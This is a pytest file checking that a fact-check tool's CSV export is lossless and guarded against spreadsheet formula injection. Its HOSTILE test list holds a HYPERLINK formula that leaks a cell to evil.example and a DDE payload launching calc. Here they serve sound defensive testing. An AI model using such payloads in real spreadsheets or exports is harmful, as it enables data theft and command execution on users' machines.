"""CSV (export --format csv, list --format csv): safe in a spreadsheet and lossless.

Read back with Python's csv module, the independent reader: every hostile cell (formulas, real
newlines, backslashes, quotes, separators inside list items) comes back as written, once the
documented formula guard (one leading ``'``) is taken off."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from factcheck.formats.text import FORMULA_START, csv_cell, to_csv
from tests.cli_runner import run
from tests.factory import BASE_CLAIMS, write_ledger

HOSTILE = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\tleading tab",
    "'already quoted",
    "two\nlines\n\nand a blank one",
    r"C:\new\table and a literal \n",
    'a "quoted" word, a comma; a semicolon',
    "-4.9% is a figure",
]


def unguard(cell: str) -> str:
    return cell[1:] if cell.startswith("'") else cell


def hostile_claim(i: int, text: str) -> dict[str, Any]:
    return {
        "id": f"hostile-{i}",
        "quote": "Talks may resume next year.",
        "claim": text,
        "kind": "opinion",
        "speaker": text,
        "section": text,
        "tags": [text, "x;y", "a,b"],
        "note": text,
    }


def read(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_hostile_cells_round_trip_and_never_start_a_formula(tmp_path: Path) -> None:
    claims = [hostile_claim(i, t) for i, t in enumerate(HOSTILE)]
    write_ledger(tmp_path, claims)
    result = run("export", "-f", "csv", "-l", str(tmp_path))
    assert result.code == 0, result.stderr
    rows = read(result.stdout)
    assert len(rows) == len(HOSTILE)
    for row, text in zip(rows, HOSTILE, strict=True):
        for key in ("claim", "speaker", "section", "note"):
            assert not row[key].startswith(FORMULA_START[:-1]), (key, row[key])
            assert unguard(row[key]) == text
        assert json.loads(row["tags"]) == [text, "x;y", "a,b"]
        assert row["line"].isdigit()
    assert "\\n" not in rows[6]["note"] and "\n\n" in rows[6]["note"]  # real newlines


def test_list_csv_is_guarded_too(tmp_path: Path) -> None:
    write_ledger(tmp_path, [*BASE_CLAIMS, hostile_claim(0, HOSTILE[0])])
    rows = read(run("list", "--format", "csv", "-l", str(tmp_path)).stdout)
    cells = [cell for row in rows for cell in row.values()]
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
    assert any(cell == "'" + HOSTILE[0] for cell in cells)


def test_bom_is_opt_in(tmp_path: Path) -> None:
    write_ledger(tmp_path)
    plain = run("export", "-f", "csv", "-l", str(tmp_path)).stdout
    assert not plain.startswith("\ufeff")
    out = tmp_path / "claims.csv"
    result = run("export", "-f", "csv", "--bom", "-l", str(tmp_path), "-o", str(out))
    assert result.code == 0
    data = out.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.decode("utf-8-sig") == plain
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0]["id"] == BASE_CLAIMS[0]["id"]


def test_bom_is_for_csv_only(tmp_path: Path) -> None:
    write_ledger(tmp_path)
    result = run("export", "-f", "jsonl", "--bom", "-l", str(tmp_path))
    assert result.code == 2 and result.stdout == ""
    assert "--bom is for --format csv" in result.stderr


# Text as a ledger holds it: any character but controls other than tab and newline (those are
# shown as \xNN escapes, on purpose) and lone surrogates.
TEXT = st.text(
    st.characters(blacklist_categories=("Cs", "Cc"), blacklist_characters="\u202e")
    | st.sampled_from(["\n", "\t", "=", "+", "-", "@", "'", '"', ",", ";", "\\"]),
    max_size=40,
)


@given(st.lists(st.tuples(TEXT, st.lists(TEXT, max_size=3)), max_size=5))
def test_csv_round_trips_any_text(rows: list[tuple[str, list[str]]]) -> None:
    records = [{"text": text, "items": items, "n": i} for i, (text, items) in enumerate(rows)]
    out = read(to_csv(records, ["text", "items", "n"]))
    assert len(out) == len(rows)
    for got, (text, items) in zip(out, rows, strict=True):
        assert unguard(got["text"]) == text
        assert not got["text"].startswith(("=", "+", "-", "@", "\t", "\r"))
        assert json.loads(got["items"]) == items


@pytest.mark.parametrize(
    ("value", "cell"),
    [(None, ""), (3, "3"), (True, "true"), ([], "[]"), ("-x", "'-x"), ("x\x1b[2J", "x\\x1b[2J")],
)
def test_cells(value: Any, cell: str) -> None:
    assert csv_cell(value) == cell
